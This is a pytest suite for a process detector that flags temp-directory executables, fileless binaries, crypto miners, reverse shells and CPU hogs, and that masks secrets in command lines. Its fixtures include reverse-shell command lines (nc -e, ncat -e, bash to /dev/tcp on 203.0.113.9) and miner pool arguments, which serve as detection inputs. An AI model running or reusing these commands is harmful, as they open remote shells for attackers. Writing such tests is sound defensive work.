"""The processes detector: fixture /proc trees, a fake clock for CPU, and real processes."""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sentinel.core.model import Event
from sentinel.sources.detectors.processes import ProcessesCollector, ProcessesConfig, redact
from sentinel.sources.detectors.procevents import Batch, ProcConnector
from sentinel.testing import FakeClock, wait_until
from tests.support.execburst import Watch, burst


def fake_process(
    proc: Path, pid: int, comm: str, exe: str, cmdline: str = "", ticks: int = 0, start: int = 5000
) -> None:
    base = proc / str(pid)
    base.mkdir(parents=True, exist_ok=True)
    fields = ["S", "1"] + ["0"] * 9 + [str(ticks), "0"] + ["0"] * 6 + [str(start)] + ["0"] * 10
    (base / "stat").write_text(f"{pid} ({comm}) {' '.join(fields)}\n")
    (base / "cmdline").write_bytes(cmdline.replace(" ", "\0").encode() + b"\0")
    (base / "status").write_text("Name:\tx\nUid:\t1000\t1000\t1000\t1000\n")
    link = base / "exe"
    if link.is_symlink():
        link.unlink()
    if exe:
        os.symlink(exe, link)


def events(items: object) -> list[Event]:
    return [i for i in items if isinstance(i, Event)]  # type: ignore[attr-defined]


def collector(proc: Path, clock: FakeClock | None = None, **cfg: object) -> ProcessesCollector:
    return ProcessesCollector(
        ProcessesConfig(**cfg),  # type: ignore[arg-type]
        proc_root=proc,
        clock=clock or FakeClock(),
        clock_ticks=100,
        own_pid=lambda: -1,
    )


def test_executable_in_temp_dirs_is_flagged_once(tmp_path: Path) -> None:
    """/tmp, /var/tmp and /dev/shm executables are exec_from_temp, reported once per process."""
    fake_process(tmp_path, 10, "x", "/dev/shm/.x")
    fake_process(tmp_path, 11, "bash", "/usr/bin/bash")
    c = collector(tmp_path)
    (event,) = events(c.collect())
    assert (event.kind, event.subject, event.get("pid"), event.get("uid")) == (
        "exec_from_temp",
        "/dev/shm/.x",
        10,
        1000,
    )
    assert events(c.collect()) == []


def test_deleted_and_memfd_executables(tmp_path: Path) -> None:
    """A deleted binary is deleted_exe; a memfd one fileless_exec; deleted from /tmp stays exec_from_temp."""
    fake_process(tmp_path, 20, "dropper", "/usr/local/bin/dropper (deleted)")
    fake_process(tmp_path, 21, "3", "/memfd:payload (deleted)")
    fake_process(tmp_path, 22, "a", "/tmp/a (deleted)")
    kinds = {e.get("pid"): e.kind for e in events(collector(tmp_path).collect())}
    assert kinds == {20: "deleted_exe", 21: "fileless_exec", 22: "exec_from_temp"}


@pytest.mark.parametrize(
    ("comm", "cmdline"),
    [
        ("xmrig", "/opt/xmrig"),
        ("kworker", "/usr/bin/kworker -o stratum+tcp://pool.example:3333 -u wallet"),
        ("sshd", "./sshd --donate-level 1 --algo=rx/0"),
        ("nc", "nc -e /bin/sh 203.0.113.9 4444"),
        ("ncat", "ncat 203.0.113.9 4444 -e /bin/bash"),
        ("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ],
)
def test_miners_and_attack_tools(tmp_path: Path, comm: str, cmdline: str) -> None:
    """Names and command lines of miners and reverse shells are known_tool."""
    fake_process(tmp_path, 30, comm, "/usr/bin/" + comm, cmdline)
    assert [e.kind for e in events(collector(tmp_path).collect())] == ["known_tool"]


def test_ordinary_processes_are_quiet(tmp_path: Path) -> None:
    """nc without -e, an ordinary daemon, a kernel thread without exe: nothing."""
    fake_process(tmp_path, 40, "nc", "/usr/bin/nc", "nc -z 10.0.0.1 22")
    fake_process(tmp_path, 41, "cupsd", "/usr/sbin/cupsd", "/usr/sbin/cupsd -l")
    fake_process(tmp_path, 42, "kthreadd", "")
    assert events(collector(tmp_path).collect()) == []


def test_cpu_hog_after_ten_minutes_above_threshold(tmp_path: Path) -> None:
    """90 % of a core for 10 minutes raises cpu_hog once; a break resets the count."""
    clock = FakeClock()
    c = collector(tmp_path, clock)
    ticks = 0
    kinds = []
    for _minute in range(12):
        fake_process(tmp_path, 50, "busy", "/usr/bin/busy", ticks=ticks)
        kinds += [e.kind for e in events(c.collect())]
        clock.advance(60)
        ticks += 90 * 60  # 0.9 s of CPU per second at 100 ticks/s
    assert kinds == ["cpu_hog"]


def test_cpu_allow_and_short_bursts(tmp_path: Path) -> None:
    """An allowed name never fires; a burst shorter than cpu_for does not either."""
    clock = FakeClock()
    c = collector(tmp_path, clock, cpu_allow=("backup",))
    ticks = 0
    fired = []
    for minute in range(15):
        fake_process(tmp_path, 60, "backup", "/usr/bin/backup", ticks=ticks * 2)
        fake_process(tmp_path, 61, "bursty", "/usr/bin/bursty", ticks=ticks if minute % 5 else 0)
        fired += events(c.collect())
        clock.advance(60)
        ticks += 95 * 60
    assert [e.kind for e in fired] == []


def test_unreadable_stat_is_malformed_not_fatal(tmp_path: Path) -> None:
    """A stat line that cannot be parsed is counted; the rest of the processes are still checked."""
    (tmp_path / "70").mkdir()
    (tmp_path / "70" / "stat").write_text("garbage")
    fake_process(tmp_path, 71, "x", "/tmp/x")
    c = collector(tmp_path)
    assert [e.kind for e in events(c.collect())] == ["exec_from_temp"]
    assert c.stats.malformed_count == 1


def test_secrets_in_command_lines_are_masked() -> None:
    """--password=x, token x and mysql -px never reach an event."""
    assert redact("app --password=hunter2 --user bob") == "app --password=*** --user bob"
    assert redact("mysql -u root -psecret db") == "mysql -u root -p*** db"
    assert redact("curl -H token abc123 url") == "curl -H token *** url"


def test_real_process_started_from_a_temp_directory(tmp_path: Path) -> None:
    """A real copy of sleep started from a temp directory is flagged with its pid."""
    binary = tmp_path / "sleepy"
    shutil.copy2(shutil.which("sleep") or "/bin/sleep", binary)
    proc = subprocess.Popen([str(binary), "30"])
    try:
        wait_until(lambda: Path(f"/proc/{proc.pid}/exe").readlink() == binary)  # exec done
        c = ProcessesCollector(ProcessesConfig(temp_dirs=(str(tmp_path),)))
        found = [e for e in events(c.collect()) if e.get("pid") == proc.pid]
    finally:
        proc.kill()
        proc.wait()
    assert [e.kind for e in found] == ["exec_from_temp"]
    assert found[0].subject == str(binary)


def test_real_process_with_a_miner_command_line(tmp_path: Path) -> None:
    """A real process whose arguments name a stratum pool is known_tool."""
    code = "import time; time.sleep(30)"
    proc = subprocess.Popen([sys.executable, "-c", code, "-o", "stratum+tcp://pool.example:3333"])
    try:
        wait_until(lambda: b"stratum" in Path(f"/proc/{proc.pid}/cmdline").read_bytes())  # exec done
        c = ProcessesCollector(ProcessesConfig())
        found = [e for e in events(c.collect()) if e.get("pid") == proc.pid]
    finally:
        proc.kill()
        proc.wait()
    assert [e.kind for e in found] == ["known_tool"]


# -- exec capture (the proc connector) and sight --------------------------------------------------


def test_an_exec_is_judged_at_once_with_ids_argv_and_parent_chain(tmp_path: Path) -> None:
    """An exec event gets pid, ppid, uid, exe, redacted argv and its parent chain."""
    fake_process(tmp_path, 1, "systemd", "/usr/lib/systemd/systemd")
    fake_process(tmp_path, 640, "sshd", "/usr/sbin/sshd")
    fake_process(tmp_path, 812, "bash", "/usr/bin/bash")
    fake_process(tmp_path, 900, "updater", "/tmp/.x/updater", "/tmp/.x/updater --token S3cr!t -v")
    for pid, ppid in ((1, 0), (640, 1), (812, 640), (900, 812)):
        stat = tmp_path / str(pid) / "stat"
        fields = stat.read_text().split(") ", 1)[1].split()
        fields[1] = str(ppid)
        stat.write_text(stat.read_text().split(") ", 1)[0] + ") " + " ".join(fields) + "\n")
    (event,) = collector(tmp_path).on_execs(Batch((900,)))
    assert (event.kind, event.get("pid"), event.get("ppid"), event.get("uid")) == (
        "exec_from_temp",
        900,
        812,
        1000,
    )
    assert json.loads(str(event.get("argv"))) == ["/tmp/.x/updater", "--token", "***", "-v"]
    assert "S3cr!t" not in str(event.fields)
    assert (
        event.get("parents")
        == "812 bash (/usr/bin/bash) < 640 sshd (/usr/sbin/sshd) < 1 systemd (/usr/lib/systemd/systemd)"
    )
    assert event.get("seen_by") == "exec"


def test_an_exec_gone_before_it_is_read_is_counted_unresolved(tmp_path: Path) -> None:
    """A process that exited before its /proc entry was read is unresolved, not silently dropped."""
    c = collector(tmp_path)
    assert c.on_execs(Batch((4242,))) == []
    assert _sample(c, "sentinel_exec_unresolved_total") == 1
    assert _sample(c, "sentinel_exec_events_total") == 1


def test_refused_connector_falls_back_to_the_scan_and_says_so(tmp_path: Path) -> None:
    """EPERM from the kernel (before 6.6 without CAP_NET_ADMIN): mode poll, reason named."""

    def refuse() -> ProcConnector:
        raise PermissionError(errno.EPERM, "Operation not permitted")

    c = ProcessesCollector(ProcessesConfig(), proc_root=tmp_path, connector=refuse, own_pid=lambda: -1)
    c.start(lambda _items: True)
    try:
        assert c.mode == "poll" and "CAP_NET_ADMIN" in c.mode_reason
        assert _sample(c, "sentinel_exec_capture_mode", mode="poll") == 1
        assert _sample(c, "sentinel_exec_capture_mode", mode="connector") == 0
    finally:
        c.stop()


def test_without_cap_sys_ptrace_the_detector_is_down_and_says_why(tmp_path: Path) -> None:
    """Other users' executables unreadable: sentinel_detector_up 0, the reason names the capability."""
    fake_process(tmp_path, 10, "x", "/usr/bin/x")
    c = ProcessesCollector(
        ProcessesConfig(), proc_root=tmp_path, own_pid=lambda: -1, missing=lambda: ["CAP_SYS_PTRACE"]
    )
    c.collect()
    sight = c.sight()
    assert not sight.up and "CAP_SYS_PTRACE" in sight.reason
    assert _sample(c, "sentinel_detector_up", detector="processes") == 0


def test_1000_processes_of_10_ms_from_a_temp_dir_are_all_seen(tmp_path: Path) -> None:
    """Through the real proc connector, every one of 1,000 short processes is seen as it starts.

    Seen means its exec reached the detector; judged means its executable was read before it
    exited (exec_from_temp); the rest are counted unresolved. On a loaded machine a few exit
    before the reader runs: the test requires all seen and most judged.
    """
    try:
        ProcConnector.open().close()
    except OSError as exc:
        pytest.skip(f"the proc connector refuses this process here: {exc}")
    watch = Watch(tmp_path)
    watch.start()
    try:
        assert watch.collector.mode == "connector", watch.collector.mode_reason
        counts = watch.counts(burst(tmp_path, 1000))
    finally:
        watch.stop()
    assert counts["burst"] == counts["seen"] == 1000, counts
    assert counts["judged"] >= 500, counts


def _sample(c: ProcessesCollector, name: str, **labels: str) -> float:
    for sample in c.current():
        if sample.name == name and all(sample.label(k) == v for k, v in labels.items()):
            return sample.value
    raise AssertionError(f"no {name} {labels}")
